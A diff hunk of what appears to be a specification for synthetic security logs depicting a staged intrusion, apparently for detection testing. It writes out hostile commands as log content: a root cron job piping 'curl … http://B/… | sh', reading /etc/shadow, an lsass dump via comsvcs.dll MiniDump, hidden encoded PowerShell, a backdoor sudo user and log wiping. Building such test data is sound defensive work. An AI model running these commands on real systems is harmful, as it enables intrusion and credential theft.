@@ -38,15 +38,15 @@ views and clicks; node_exporter-like samples every five minutes.
    a0="/bin/bash" a1="-p"`` and ``cat /etc/shadow`` with ``auid`` V and ``uid=0``.
 7. -30, *persistence*: useradd ``new user: name=N, UID=…``, usermod ``add 'N' to group 'sudo'``
    and ``add 'N' to shadow group 'sudo'``, passwd ``pam_unix(passwd:chauthtok): password changed
-   for N``;
-   crontab ``(root) REPLACE (root)``; CRON ``(root) CMD (curl -fsSL http://B/… | sh)``; auditd
-   ``type=PATH … name="/root/.ssh/authorized_keys" … nametype=CREATE``, ``EXECVE a0="chattr"
+   for N``; crontab ``(root) REPLACE (root)``; CRON ``(root) CMD (curl -fsSL http://B/… | sh)``;
+   auditd ``type=PATH … name="/root/.ssh/authorized_keys" … nametype=CREATE``, ``EXECVE a0="chattr"
    a1="+i"``; a new unit is enabled (``systemctl enable``).
 8. -26 to -22, *on to Windows* (NDJSON, Security and Sysmon on W): eight 4625 for an administrator
    from the bastion, then 4624 (LogonType 3) and 4672; Sysmon 1 and 4688: ``whoami /all``, ``net
    user /domain``, ``powershell.exe -nop -w hidden -enc …``, ``rundll32.exe
    C:\Windows\System32\comsvcs.dll, MiniDump …`` with Sysmon 10 on lsass.exe; 4720 creates N, 4732
-   adds it to Administrators; 7045 and 4697 install a service; 4698 creates a task.
+   adds it to Administrators; 7045 and 4697 install a service (``ImagePath``
+   ``C:\Windows\Temp\N.exe``); 4698 creates a task that runs a hidden script.
 9. -20 to -17, *data leaves* (FortiGate): ``action="accept"`` to B, port 443, ``sentbyte`` of
    hundreds of megabytes, five times.
 10. -14 to -12, *traces are wiped*: auditd on the bastion ``SYSCALL … exe="/usr/bin/truncate"
